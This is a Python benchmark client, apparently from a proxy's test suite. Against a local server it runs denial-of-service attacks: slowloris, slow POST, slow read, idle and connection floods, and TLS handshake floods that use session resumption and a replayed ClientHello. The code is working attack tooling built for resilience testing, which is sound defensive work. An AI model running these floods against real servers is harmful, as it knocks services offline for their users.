"""The attacker of ``bench/attack.py``: one cheap process holding or churning many connections.

``attack.py`` starts it as a subprocess (``python bench/attack_client.py KIND --port P ...``)
in its own process group, on the load core, and stops it with SIGTERM. It writes two JSON
files into ``--status-dir``: ``ready.json`` once the attack is at strength (the connections
it keeps are open, or a flood has run for a moment) and ``final.json`` when it stops, with
its counters and its own CPU seconds (``getrusage``); ``status.json`` every second
meanwhile (how many connections are open now).

How it works: one asyncio event loop (uvloop when installed) drives non-blocking sockets
directly -- plain ``socket.socket`` and ``ssl.SSLSocket`` objects, woken by
``add_reader``/``add_writer`` -- rather than asyncio transports, so that one process can hold
10,000 TLS connections, read a response a few bytes at a time with a small ``SO_RCVBUF``
(a transport would read everything the kernel has), and resume TLS sessions with the
ticket of a first connection (asyncio transports take no ``session``): a resumed handshake
costs the attacker far less than a full one, as a real attacker would arrange.

Kinds (each is "slots": a slot holds one connection at a time and opens a new one when the
server closes it, so the attack keeps its strength against timeouts, as slowloris does):

* ``slowloris``: TLS, a request line and ``Host``, then one more header line every
  ``--interval`` seconds; the head never ends.
* ``slowpost``: TLS, a complete POST head with a large ``Content-Length``, then one body
  byte every ``--interval`` seconds.
* ``slowread``: TLS with a small ``SO_RCVBUF``, ``GET --path`` (a large response), then
  ``--read-bytes`` bytes read every ``--interval`` seconds.
* ``idle``: TLS, one ``GET /`` answered in full, then idle on the keep-alive connection.
* ``idle-tcp``: a TCP connection that sends nothing (no ClientHello).
* ``flood``: as fast as possible, repeatedly: connect (``--tls-fraction`` of the slots
  complete a TLS handshake, the others send nothing), hold ``--hold`` seconds, close,
  connect again.
* ``handshake``: full TLS handshakes at ``--rate`` per second (0: as fast as
  ``--count`` concurrent clients go): a recorded ClientHello is sent, the server's whole
  first flight (ServerHello ... Finished: its key exchange and signature are done) is
  read, and the connection is closed. The server does the work of a full handshake; the
  client only writes bytes and reads them.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import errno
import json
import os
import random
import resource
import signal
import socket
import ssl
import sys
import time
from collections.abc import Awaitable, Callable, Coroutine, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

KINDS = ("slowloris", "slowpost", "slowread", "idle", "idle-tcp", "flood", "handshake")
HOST = "127.0.0.1"
CONNECT_TIMEOUT = 5.0
HANDSHAKE_TIMEOUT = 10.0
LIFETIME_SAMPLES = 20_000  # lifetimes kept for the summary (a flood makes many more)


class Closed(Exception):
    """The server closed the connection (EOF or reset)."""


# --------------------------------------------------------------------------- counters


@dataclass
class Stats:
    """What the attacker saw. ``attack.py`` reads it from ``final.json``."""

    kind: str
    slots: int
    attempts: int = 0  # connections started
    connected: int = 0  # TCP connect succeeded
    tls_ok: int = 0  # TLS handshake completed
    resumed: int = 0  # of which resumed a session
    failures: dict[str, int] = field(default_factory=dict)  # why a connection never got going
    closed_by_server: int = 0  # connections the server ended (EOF, reset, error response)
    lifetimes: list[float] = field(default_factory=list)  # seconds, of those (a sample)
    statuses: dict[str, int] = field(default_factory=dict)  # first status code per response
    open_now: int = 0
    open_peak: int = 0
    bytes_sent: int = 0
    bytes_received: int = 0
    answered: int = 0  # handshake kind: server flights read in full
    ready_after_s: float = 0.0
    reached: bool = False  # the target strength was reached before ready
    seconds: float = 0.0
    cpu_s: float = 0.0
    max_rss_kib: int = 0

    def fail(self, why: str) -> None:
        self.failures[why] = self.failures.get(why, 0) + 1

    def status(self, code: str) -> None:
        self.statuses[code] = self.statuses.get(code, 0) + 1

    def opened(self) -> None:
        self.open_now += 1
        self.open_peak = max(self.open_peak, self.open_now)

    def server_closed(self, lifetime: float) -> None:
        self.closed_by_server += 1
        if len(self.lifetimes) < LIFETIME_SAMPLES:
            self.lifetimes.append(round(lifetime, 3))


def reason(exc: BaseException) -> str:
    """A short name for why a connection failed: an errno name, 'timeout', 'tls'."""
    if isinstance(exc, TimeoutError):
        return "timeout"
    if isinstance(exc, ssl.SSLError):
        return "tls"
    if isinstance(exc, Closed):
        return "closed early"
    if isinstance(exc, OSError) and exc.errno is not None:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    return type(exc).__name__


# --------------------------------------------------------------------------- socket I/O


def _wake(fut: asyncio.Future[bool], value: bool) -> None:
    if not fut.done():
        fut.set_result(value)


class Net:
    """Awaitable readiness of raw descriptors, and the few socket operations built on it."""

    def __init__(self, loop: asyncio.AbstractEventLoop, source: str = "") -> None:
        self.loop = loop
        self.source = source  # connect from this address ("": any)

    async def ready(self, fd: int, *, write: bool, timeout: float | None) -> bool:
        """Wait until ``fd`` is readable (writable); False if ``timeout`` passed first."""
        fut: asyncio.Future[bool] = self.loop.create_future()
        if write:
            self.loop.add_writer(fd, _wake, fut, True)
        else:
            self.loop.add_reader(fd, _wake, fut, True)
        timer = self.loop.call_later(timeout, _wake, fut, False) if timeout is not None else None
        try:
            return await fut
        finally:
            if write:
                self.loop.remove_writer(fd)
            else:
                self.loop.remove_reader(fd)
            if timer is not None:
                timer.cancel()

    async def connect(self, port: int, *, rcvbuf: int = 0) -> socket.socket:
        """A connected non-blocking TCP socket (``rcvbuf``: SO_RCVBUF set before connect).

        Raises:
            OSError: the connection failed (EMFILE here, ECONNREFUSED, ...).
            TimeoutError: no answer within CONNECT_TIMEOUT.
        """
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.setblocking(False)
            if rcvbuf:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            if self.source:
                sock.bind((self.source, 0))
            rc = sock.connect_ex((HOST, port))
            if rc not in (0, errno.EINPROGRESS):
                raise OSError(rc, os.strerror(rc))
            if rc != 0:
                if not await self.ready(sock.fileno(), write=True, timeout=CONNECT_TIMEOUT):
                    raise TimeoutError("connect")
                rc = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if rc != 0:
                    raise OSError(rc, os.strerror(rc))
        except BaseException:
            sock.close()
            raise
        return sock

    async def handshake(self, sock: ssl.SSLSocket, timeout: float = HANDSHAKE_TIMEOUT) -> None:
        """Complete the TLS handshake of a non-blocking ``SSLSocket``.

        Raises:
            ssl.SSLError, OSError: the handshake failed.
            TimeoutError: it did not complete within ``timeout``.
        """
        deadline = time.monotonic() + timeout
        while True:
            try:
                sock.do_handshake()
                return
            except ssl.SSLWantReadError:
                write = False
            except ssl.SSLWantWriteError:
                write = True
            left = deadline - time.monotonic()
            if left <= 0 or not await self.ready(sock.fileno(), write=write, timeout=left):
                raise TimeoutError("tls handshake")

    async def send(self, sock: socket.socket, data: bytes) -> int:
        """Send all of ``data`` (waiting while the socket is full); returns its length.

        Raises:
            Closed: the server has closed or reset the connection.
        """
        view = memoryview(data)
        while view:
            try:
                n = sock.send(view)
            except (BlockingIOError, ssl.SSLWantWriteError):
                await self.ready(sock.fileno(), write=True, timeout=None)
                continue
            except ssl.SSLWantReadError:
                await self.ready(sock.fileno(), write=False, timeout=None)
                continue
            except (OSError, ssl.SSLError) as exc:
                raise Closed(str(exc)) from exc
            view = view[n:]
        return len(data)

    @staticmethod
    def recv_now(sock: socket.socket, size: int) -> bytes | None:
        """What can be read right now (at most ``size`` bytes), None if nothing.

        Raises:
            Closed: EOF or a reset.
        """
        try:
            data = sock.recv(size)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return None
        except (OSError, ssl.SSLError) as exc:
            raise Closed(str(exc)) from exc
        if not data:
            raise Closed("eof")
        return data

    async def recv(self, sock: socket.socket, size: int, timeout: float | None) -> bytes | None:
        """Wait up to ``timeout`` for bytes; None if none came.

        Raises:
            Closed: EOF or a reset.
        """
        data = self.recv_now(sock, size)
        if data is not None:
            return data
        if not await self.ready(sock.fileno(), write=False, timeout=timeout):
            return None
        return self.recv_now(sock, size)


def client_context() -> ssl.SSLContext:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx


def seed_session(ctx: ssl.SSLContext, port: int) -> ssl.SSLSession | None:
    """One full handshake and request, so that the TLS 1.3 session ticket has arrived."""
    try:
        with (
            socket.create_connection((HOST, port), timeout=10) as raw,
            ctx.wrap_socket(raw, server_hostname="localhost") as s,
        ):
            s.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
            s.recv(65536)
            return s.session
    except OSError:
        return None


def client_hello() -> bytes:
    """The first flight of a real TLS client (Python's ssl) for ``localhost``."""
    ctx = client_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        obj.do_handshake()
    return outgoing.read()


def status_of(data: bytes) -> str:
    """The status code of a response head that starts ``data``, or '?'."""
    if data.startswith(b"HTTP/1.") and len(data) >= 12:
        return data[9:12].decode("ascii", "replace")
    return "?"


# --------------------------------------------------------------------------- the attacker


@dataclass
class Options:
    kind: str
    port: int
    count: int
    interval: float
    path: str
    read_bytes: int
    rcvbuf: int
    hold: float
    rate: float
    tls_fraction: float
    connect_concurrency: int
    ramp_timeout: float
    duration: float
    status_dir: Path
    source: str = ""


class Attacker:
    """Runs one kind of attack until stopped; see the module docstring."""

    def __init__(self, opts: Options, loop: asyncio.AbstractEventLoop) -> None:
        self.o = opts
        self.loop = loop
        self.net = Net(loop, opts.source)
        self.stats = Stats(opts.kind, opts.count)
        self.ctx = client_context()
        self.session: ssl.SSLSession | None = None
        self.hello = b""
        self.flight = 0  # bytes of the server's first flight, for the handshake kind
        self.stop = asyncio.Event()
        self.start = time.monotonic()
        self.connecting = asyncio.Semaphore(opts.connect_concurrency)
        self.tasks: set[asyncio.Task[None]] = set()

    # ---- set-up -------------------------------------------------------------------------

    def prepare(self) -> None:
        if self.o.kind in ("slowloris", "slowpost", "slowread", "idle", "flood"):
            self.session = seed_session(self.ctx, self.o.port)
        if self.o.kind == "handshake":
            self.hello = client_hello()
            self.flight = self._measure_flight()

    def _measure_flight(self) -> int:
        """Bytes the server sends in answer to :attr:`hello` (read for half a second)."""
        total = 0
        with (
            contextlib.suppress(OSError),
            socket.create_connection((HOST, self.o.port), timeout=5) as s,
        ):
            s.sendall(self.hello)
            s.settimeout(0.5)
            with contextlib.suppress(TimeoutError):
                while chunk := s.recv(65536):
                    total += len(chunk)
        # A server whose flight arrives in pieces is read up to 90 % of it: enough that
        # its key exchange and signature are done, without waiting on the last segment.
        return max(1, int(total * 0.9))

    # ---- slots --------------------------------------------------------------------------

    async def tls(self, *, rcvbuf: int = 0, resume: bool = True) -> tuple[ssl.SSLSocket, float]:
        """Connect and complete a TLS handshake; (socket, when it was established)."""
        async with self.connecting:
            self.stats.attempts += 1
            raw = await self.net.connect(self.o.port, rcvbuf=rcvbuf)
            self.stats.connected += 1
            sock = self.ctx.wrap_socket(
                raw,
                server_hostname="localhost",
                do_handshake_on_connect=False,
                session=self.session if resume else None,
            )
            try:
                await self.net.handshake(sock)
            except BaseException:
                sock.close()
                raise
        self.stats.tls_ok += 1
        self.stats.resumed += bool(sock.session_reused)
        return sock, time.monotonic()

    async def tcp(self) -> tuple[socket.socket, float]:
        async with self.connecting:
            self.stats.attempts += 1
            sock = await self.net.connect(self.o.port)
        self.stats.connected += 1
        return sock, time.monotonic()

    def jitter(self, seconds: float) -> float:
        return seconds * random.uniform(0.8, 1.2)

    async def slot(self, body: Callable[[], Awaitable[None]], first_delay: float) -> None:
        """Keep one connection going: run ``body`` again each time the server ends it."""
        await asyncio.sleep(first_delay)
        while not self.stop.is_set():
            try:
                await body()
            except Closed:
                await asyncio.sleep(0.05)  # the server ended it (counted by body): again
            except (OSError, ssl.SSLError, TimeoutError) as exc:
                self.stats.fail(reason(exc))
                await asyncio.sleep(1.0)  # refused, out of descriptors...: back off a little

    async def held(self, sock: socket.socket, since: float, work: Awaitable[None]) -> None:
        """Run ``work`` on an open connection; count it open meanwhile, and how it ended."""
        self.stats.opened()
        try:
            await work
        except Closed:
            self.stats.server_closed(time.monotonic() - since)
            raise
        finally:
            self.stats.open_now -= 1
            sock.close()

    async def note_response(self, data: bytes, seen: list[bool]) -> None:
        self.stats.bytes_received += len(data)
        if not seen[0]:
            seen[0] = True
            self.stats.status(status_of(data))

    # ---- kinds --------------------------------------------------------------------------

    async def slowloris(self) -> None:
        sock, since = await self.tls()

        async def work() -> None:
            head = b"GET /?slowloris HTTP/1.1\r\nHost: localhost\r\nUser-Agent: attack\r\n"
            self.stats.bytes_sent += await self.net.send(sock, head)
            seen = [False]
            n = 0
            while True:
                data = await self.net.recv(sock, 4096, self.jitter(self.o.interval))
                if data is not None:  # an error response (408, 400): the server is done
                    await self.note_response(data, seen)
                    continue
                n += 1
                self.stats.bytes_sent += await self.net.send(sock, f"X-Pad-{n}: {n}\r\n".encode())

        await self.held(sock, since, work())

    async def slowpost(self) -> None:
        sock, since = await self.tls()

        async def work() -> None:
            head = (
                b"POST /?slowpost HTTP/1.1\r\nHost: localhost\r\n"
                b"Content-Type: application/octet-stream\r\nContent-Length: 100000000\r\n\r\n"
            )
            self.stats.bytes_sent += await self.net.send(sock, head)
            seen = [False]
            while True:
                data = await self.net.recv(sock, 4096, self.jitter(self.o.interval))
                if data is not None:  # an early answer, or a 408: keep trickling anyway
                    await self.note_response(data, seen)
                    continue
                self.stats.bytes_sent += await self.net.send(sock, b"x")

        await self.held(sock, since, work())

    async def slowread(self) -> None:
        sock, since = await self.tls(rcvbuf=self.o.rcvbuf)

        async def work() -> None:
            request = f"GET {self.o.path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
            self.stats.bytes_sent += await self.net.send(sock, request)
            seen = [False]
            while True:
                await asyncio.sleep(self.jitter(self.o.interval))
                data = self.net.recv_now(sock, self.o.read_bytes)
                if data is not None:
                    await self.note_response(data, seen)

        await self.held(sock, since, work())

    async def idle(self) -> None:
        sock, since = await self.tls()

        async def work() -> None:
            request = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
            self.stats.bytes_sent += await self.net.send(sock, request)
            await self._read_response(sock)
            while True:  # idle until the server closes the keep-alive connection
                data = await self.net.recv(sock, 4096, None)
                if data is not None:
                    self.stats.bytes_received += len(data)

        await self.held(sock, since, work())

    async def _read_response(self, sock: socket.socket) -> None:
        """Read one response with a Content-Length body (the bench backend's ``/``)."""
        buf = b""
        while b"\r\n\r\n" not in buf:
            data = await self.net.recv(sock, 65536, None)
            buf += data or b""
        head, _, body = buf.partition(b"\r\n\r\n")
        self.stats.status(status_of(head))
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value.strip())
        while len(body) < length:
            data = await self.net.recv(sock, 65536, None)
            body += data or b""
        self.stats.bytes_received += len(head) + 4 + len(body)

    async def idle_tcp(self) -> None:
        sock, since = await self.tcp()

        async def work() -> None:
            while True:
                data = await self.net.recv(sock, 4096, None)
                if data is not None:
                    self.stats.bytes_received += len(data)

        await self.held(sock, since, work())

    def flood_body(self, tls: bool) -> Callable[[], Awaitable[None]]:
        async def once() -> None:
            sock: socket.socket
            if tls:
                sock, since = await self.tls()
            else:
                sock, since = await self.tcp()

            async def work() -> None:
                deadline = since + self.o.hold
                seen = [False]
                while (left := deadline - time.monotonic()) > 0:
                    data = await self.net.recv(sock, 4096, left)
                    if data is not None:  # a 503 (over max_connections): it will close
                        await self.note_response(data, seen)

            await self.held(sock, since, work())

        return once

    async def handshake_once(self) -> None:
        self.stats.attempts += 1
        try:
            sock = await self.net.connect(self.o.port)
        except (OSError, TimeoutError) as exc:
            self.stats.fail(reason(exc))
            return
        self.stats.connected += 1
        try:
            self.stats.bytes_sent += await self.net.send(sock, self.hello)
            got = 0
            while got < self.flight:
                data = await self.net.recv(sock, 65536, HANDSHAKE_TIMEOUT)
                if data is None:
                    raise TimeoutError("server flight")
                got += len(data)
            self.stats.bytes_received += got
            self.stats.answered += 1
        except (Closed, TimeoutError) as exc:
            self.stats.fail(reason(exc))
        finally:
            sock.close()

    async def handshake_flood(self) -> None:
        """``--rate`` handshakes a second, at most ``--count`` at once (rate 0: no pacing)."""
        inflight = asyncio.Semaphore(self.o.count)
        interval = 1.0 / self.o.rate if self.o.rate > 0 else 0.0
        next_at = time.monotonic()

        async def one() -> None:
            try:
                await self.handshake_once()
            finally:
                inflight.release()

        while not self.stop.is_set():
            await inflight.acquire()
            self.spawn(one())
            if interval:
                next_at += interval
                delay = next_at - time.monotonic()
                if delay > 0:
                    await asyncio.sleep(delay)
                elif delay < -1.0:
                    next_at = time.monotonic()  # fell behind by a second: do not burst

    # ---- running ------------------------------------------------------------------------

    def spawn(self, coro: Coroutine[Any, Any, None]) -> None:
        task = self.loop.create_task(coro)
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    def start_slots(self) -> None:
        kinds: dict[str, Callable[[], Awaitable[None]]] = {
            "slowloris": self.slowloris,
            "slowpost": self.slowpost,
            "slowread": self.slowread,
            "idle": self.idle,
            "idle-tcp": self.idle_tcp,
        }
        n = self.o.count
        if self.o.kind == "handshake":
            self.spawn(self.handshake_flood())
            return
        for i in range(n):
            if self.o.kind == "flood":
                body = self.flood_body(i < round(n * self.o.tls_fraction))
                delay = 0.0
            else:
                body = kinds[self.o.kind]
                # spread the lines/bytes of the slots over the interval, not all at once
                delay = 0.0 if self.o.kind in ("idle", "idle-tcp") else random.uniform(0, 0.5)
            self.spawn(self.slot(body, delay))

    async def wait_ready(self) -> None:
        """Write ready.json once the slots are open (or the ramp timed out), or a flood ran 2 s."""
        target = 0.98 * self.o.count
        flood = self.o.kind in ("flood", "handshake")
        deadline = self.start + (2.0 if flood else self.o.ramp_timeout)
        while time.monotonic() < deadline and not self.stop.is_set():
            if not flood and self.stats.open_now >= target:
                self.stats.reached = True
                break
            await asyncio.sleep(0.1)
        self.stats.reached = self.stats.reached or flood
        self.stats.ready_after_s = round(time.monotonic() - self.start, 2)
        write_json(self.o.status_dir / "ready.json", asdict(self.stats))

    async def report(self) -> None:
        """Write status.json every second: what is open now, for the end of the window."""
        while not self.stop.is_set():
            self.stats.seconds = round(time.monotonic() - self.start, 2)
            status = asdict(self.stats)
            status.pop("lifetimes")
            write_json(self.o.status_dir / "status.json", status)
            await asyncio.sleep(1.0)

    async def run(self) -> Stats:
        self.loop.add_signal_handler(signal.SIGTERM, self.stop.set)
        self.loop.add_signal_handler(signal.SIGINT, self.stop.set)
        self.start_slots()
        self.spawn(self.report())
        await self.wait_ready()
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(self.stop.wait(), self.o.duration)
        self.stop.set()
        for task in list(self.tasks):
            task.cancel()
        await asyncio.gather(*self.tasks, return_exceptions=True)
        self.stats.seconds = round(time.monotonic() - self.start, 2)
        ru = resource.getrusage(resource.RUSAGE_SELF)
        self.stats.cpu_s = round(ru.ru_utime + ru.ru_stime, 3)
        self.stats.max_rss_kib = ru.ru_maxrss
        return self.stats


def write_json(path: Path, data: dict[str, Any]) -> None:
    """Write ``data`` to ``path`` atomically (the reader polls for the file)."""
    tmp = path.with_suffix(".tmp")
    tmp.write_text(json.dumps(data))
    tmp.replace(path)


def raise_fd_limit() -> None:
    """Soft RLIMIT_NOFILE up to the hard limit: 10,000 connections need as many descriptors."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard == resource.RLIM_INFINITY or hard > soft:
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def parse_args(argv: Sequence[str] | None) -> Options:
    p = argparse.ArgumentParser(
        prog="bench/attack_client.py",
        description="The attacker of bench/attack.py (one kind of attack, until SIGTERM).",
    )
    p.add_argument("kind", choices=KINDS)
    p.add_argument("--port", type=int, required=True, help="the proxy's port on 127.0.0.1")
    p.add_argument("--count", type=int, default=1000, help="slots (handshake: in flight)")
    p.add_argument("--interval", type=float, default=5.0, help="seconds between trickles")
    p.add_argument("--path", default="/big", help="slowread: what to GET")
    p.add_argument("--read-bytes", type=int, default=32, help="slowread: bytes per interval")
    p.add_argument("--rcvbuf", type=int, default=4096, help="slowread: SO_RCVBUF")
    p.add_argument("--hold", type=float, default=1.0, help="flood: seconds to hold each")
    p.add_argument("--rate", type=float, default=0.0, help="handshake: per second, 0: no pacing")
    p.add_argument("--tls-fraction", type=float, default=0.5, help="flood: slots doing TLS")
    p.add_argument("--connect-concurrency", type=int, default=256, help="connects at once")
    p.add_argument("--source", default="", help="the address to connect from (default: any)")
    p.add_argument("--ramp-timeout", type=float, default=30.0, help="seconds to reach --count")
    p.add_argument("--duration", type=float, default=300.0, help="stop after this many seconds")
    p.add_argument("--status-dir", type=Path, required=True, help="ready.json, final.json")
    a = p.parse_args(argv)
    return Options(
        kind=a.kind,
        port=a.port,
        count=a.count,
        interval=a.interval,
        path=a.path,
        read_bytes=a.read_bytes,
        rcvbuf=a.rcvbuf,
        hold=a.hold,
        rate=a.rate,
        tls_fraction=a.tls_fraction,
        connect_concurrency=a.connect_concurrency,
        ramp_timeout=a.ramp_timeout,
        duration=a.duration,
        status_dir=a.status_dir,
        source=a.source,
    )


def new_loop() -> asyncio.AbstractEventLoop:
    try:
        import uvloop
    except ImportError:
        return asyncio.new_event_loop()
    return uvloop.new_event_loop()


def main(argv: Sequence[str] | None = None) -> int:
    opts = parse_args(argv)
    raise_fd_limit()
    with asyncio.Runner(loop_factory=new_loop) as runner:
        attacker = Attacker(opts, runner.get_loop())
        attacker.prepare()
        stats = runner.run(attacker.run())
    write_json(opts.status_dir / "final.json", asdict(stats))
    return 0


if __name__ == "__main__":
    sys.exit(main())
